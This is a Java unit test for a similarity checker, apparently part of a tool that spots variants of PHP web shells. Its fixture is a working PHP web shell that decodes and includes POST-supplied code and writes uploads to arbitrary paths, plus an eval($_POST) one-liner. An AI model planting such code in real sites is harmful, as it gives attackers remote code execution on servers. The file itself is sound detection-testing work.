package org.outguard.trace.php;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class LikenessTest {

    private static final String SHELL = """
            <?php
            error_reporting(0);
            $key = 'abc';
            if (isset($_POST[$key])) {
                $data = base64_decode($_POST[$key]);
                $file = tempnam('/tmp', 'x');
                file_put_contents($file, $data);
                include $file;
                unlink($file);
            } elseif (isset($_FILES['f'])) {
                move_uploaded_file($_FILES['f']['tmp_name'], $_GET['to']);
                echo md5_file($_GET['to']);
            }
            """;

    @Test
    void aCopyWithOtherNamesTextsAndLayoutIsTheSame() {
        String varied = SHELL.replace("$key", "$q9")
                .replace("$data", "$zz")
                .replace("$file", "$O0O")
                .replace("'abc'", "\"another text\"")
                .replace("'/tmp'", "'/dev/shm'")
                .replace(";\n", "; // a remark\n\n")
                .replace("    ", "\t");
        assertThat(percent(SHELL, varied)).isEqualTo(100);
    }

    @Test
    void aCopyWithALineMoreIsAlike() {
        assertThat(percent(SHELL, SHELL.replace("error_reporting(0);", "error_reporting(0);\nset_time_limit(0);")))
                .isBetween(70, 99);
    }

    @Test
    void anotherScriptIsNot() {
        String honest = """
                <?php
                namespace Shop;
                final class Cart {
                    private array $lines = [];
                    public function add(Product $product, int $count): void {
                        $this->lines[$product->id()] = ($this->lines[$product->id()] ?? 0) + $count;
                    }
                    public function total(): int {
                        return array_sum(array_map(fn ($line) => $line->price(), $this->lines));
                    }
                }
                """;
        assertThat(percent(SHELL, honest)).isLessThan(30);
        assertThat(percent(honest, honest)).isEqualTo(100);
    }

    @Test
    void whatIsTooShortIsLikeNothing() {
        assertThat(percent("<?php eval($_POST['a']);", "<?php eval($_POST['a']);"))
                .isZero();
        assertThat(percent("", "")).isZero();
        assertThat(percent(SHELL, "<?php")).isZero();
    }

    private static int percent(String one, String other) {
        return of(one).percent(of(other));
    }

    private static Likeness of(String code) {
        return Likeness.of(code.getBytes(StandardCharsets.UTF_8));
    }
}
